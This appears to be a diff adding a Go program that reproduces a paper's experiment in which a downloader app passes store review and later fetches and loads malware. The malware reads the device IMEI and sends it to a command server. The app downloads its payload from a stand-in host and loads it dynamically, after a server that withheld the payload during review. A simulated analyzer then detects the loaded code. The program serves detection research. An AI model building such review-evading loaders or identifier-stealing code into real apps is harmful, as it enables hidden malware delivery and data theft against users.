@@ -1,0 +1,160 @@
+// Remoteloader reproduces the paper's §III-B penetration experiment:
+//
+//  1. App_M, which packages known malware directly, is submitted to the
+//     store and rejected by the Bouncer's static scan.
+//  2. App_L, which merely downloads and dynamically loads whatever the
+//     developer's server returns, passes review — the server withholds
+//     the payload during the review window.
+//  3. After release the server flips delivery on; end-user devices now
+//     fetch and execute the malware, invisible to the store.
+//  4. DyDroid, running its instrumented device post-release, intercepts
+//     the loaded code, classifies it, and attributes the remote
+//     provenance — the Google Play content-policy violation.
+package main
+
+import (
+	"fmt"
+	"log"
+
+	"github.com/dydroid/dydroid"
+	"github.com/dydroid/dydroid/internal/android"
+	"github.com/dydroid/dydroid/internal/dex"
+	"github.com/dydroid/dydroid/internal/mail"
+)
+
+const payloadURL = "http://update.apphost.example/module.dex"
+
+// buildMalware authors the malicious bytecode: read the IMEI, ship it to
+// a command server.
+func buildMalware() []byte {
+	b := dex.NewBuilder()
+	m := b.Class("com.scm.Stealer", "java.lang.Object").Method("run", dex.ACCPublic, 5, "V")
+	m.NewInstance(1, "android.telephony.TelephonyManager").
+		InvokeVirtual(dex.MethodRef{Class: "android.telephony.TelephonyManager",
+			Name: "getDeviceId", Sig: "()Ljava/lang/String;"}, 1).
+		MoveResult(2).
+		NewInstance(3, "java.net.HttpURLConnection").
+		InvokeVirtual(dex.MethodRef{Class: "java.net.HttpURLConnection",
+			Name: "write", Sig: "(Ljava/lang/String;)V"}, 3, 2).
+		ReturnVoid().Done()
+	data, err := dex.Encode(b.File())
+	if err != nil {
+		log.Fatal(err)
+	}
+	return data
+}
+
+// buildAppM packages the malware statically.
+func buildAppM(payload []byte) []byte {
+	a := &dydroid.APK{
+		Manifest: dydroid.Manifest{Package: "com.appm", MinSDK: 16},
+		Dex:      payload,
+	}
+	a.Manifest.Application.Activities = []dydroid.Component{{Name: "com.appm.Main", Main: true}}
+	data, err := dydroid.BuildAPK(a)
+	if err != nil {
+		log.Fatal(err)
+	}
+	return data
+}
+
+// buildAppL downloads and loads whatever the server returns.
+func buildAppL() []byte {
+	pkg := "com.appl"
+	dest := android.InternalDir(pkg) + "cache/module.dex"
+	b := dex.NewBuilder()
+	m := b.Class(pkg+".Main", "android.app.Activity").
+		Method("onCreate", dex.ACCPublic, 10, "V", "Landroid/os/Bundle;")
+	m.NewInstance(1, "java.net.URL").
+		ConstString(2, payloadURL).
+		InvokeDirect(dex.MethodRef{Class: "java.net.URL", Name: "<init>",
+			Sig: "(Ljava/lang/String;)V"}, 1, 2).
+		InvokeVirtual(dex.MethodRef{Class: "java.net.URL", Name: "openConnection",
+			Sig: "()Ljava/net/URLConnection;"}, 1).
+		MoveResult(3).
+		InvokeVirtual(dex.MethodRef{Class: "java.net.HttpURLConnection",
+			Name: "getInputStream", Sig: "()Ljava/io/InputStream;"}, 3).
+		MoveResult(4).
+		IfEqz(4, "nothing"). // server said no (or offline): behave normally
+		NewInstance(5, "java.io.FileOutputStream").
+		ConstString(6, dest).
+		InvokeDirect(dex.MethodRef{Class: "java.io.FileOutputStream", Name: "<init>",
+			Sig: "(Ljava/lang/String;)V"}, 5, 6).
+		InvokeVirtual(dex.MethodRef{Class: "java.io.InputStream", Name: "readAll",
+			Sig: "()[B"}, 4).
+		MoveResult(7).
+		InvokeVirtual(dex.MethodRef{Class: "java.io.FileOutputStream", Name: "write",
+			Sig: "([B)V"}, 5, 7).
+		InvokeVirtual(dex.MethodRef{Class: "java.io.FileOutputStream", Name: "close",
+			Sig: "()V"}, 5).
+		ConstString(8, android.InternalDir(pkg)+"cache/odex").
+		NewInstance(9, "dalvik.system.DexClassLoader").
+		InvokeDirect(dex.MethodRef{Class: "dalvik.system.DexClassLoader", Name: "<init>",
+			Sig: "(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Ljava/lang/ClassLoader;)V"},
+			9, 6, 8, 0, 0).
+		Label("nothing").
+		ReturnVoid().Done()
+	dexBytes, err := dex.Encode(b.File())
+	if err != nil {
+		log.Fatal(err)
+	}
+	a := &dydroid.APK{
+		Manifest: dydroid.Manifest{Package: pkg, MinSDK: 16},
+		Dex:      dexBytes,
+	}
+	a.Manifest.Application.Activities = []dydroid.Component{{Name: pkg + ".Main", Main: true}}
+	data, err := dydroid.BuildAPK(a)
+	if err != nil {
+		log.Fatal(err)
+	}
+	return data
+}
+
+func main() {
+	payload := buildMalware()
+
+	// Train the store's detector on the malware family.
+	var clf dydroid.Classifier
+	df, err := dex.Decode(payload)
+	if err != nil {
+		log.Fatal(err)
+	}
+	if err := clf.Train("Swiss code monkeys", mail.FromDex(df)); err != nil {
+		log.Fatal(err)
+	}
+
+	net := dydroid.NewNetwork()
+	reviewer := &dydroid.Reviewer{Classifier: &clf, Network: net}
+
+	fmt.Println("== submission review ==")
+	v, err := reviewer.Review(buildAppM(payload))
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Printf("App_M (malware packaged statically): approved=%v  %s\n", v.Approved, v.Reason)
+
+	appL := buildAppL()
+	v, err = reviewer.Review(appL)
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Printf("App_L (loads remote code; server silent): approved=%v  %s\n", v.Approved, v.Reason)
+
+	fmt.Println("\n== after public release: the server flips delivery on ==")
+	net.Serve(payloadURL, dydroid.Payload{Data: payload})
+
+	an := dydroid.NewAnalyzer(dydroid.Options{Seed: 1, Classifier: &clf, Network: net})
+	res, err := an.AnalyzeAPK(appL)
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println("DyDroid post-release analysis of App_L:")
+	for _, ev := range res.Events {
+		fmt.Printf("  DCL %s: %s\n", ev.Kind, ev.Path)
+		fmt.Printf("    provenance: %s (from %s) — Google Play content-policy violation\n",
+			ev.Provenance, ev.SourceURL)
+	}
+	for _, hit := range res.Malware {
+		fmt.Printf("  loaded code classified: %s (match %.0f%%)\n", hit.Family, hit.Score*100)
+	}
+}
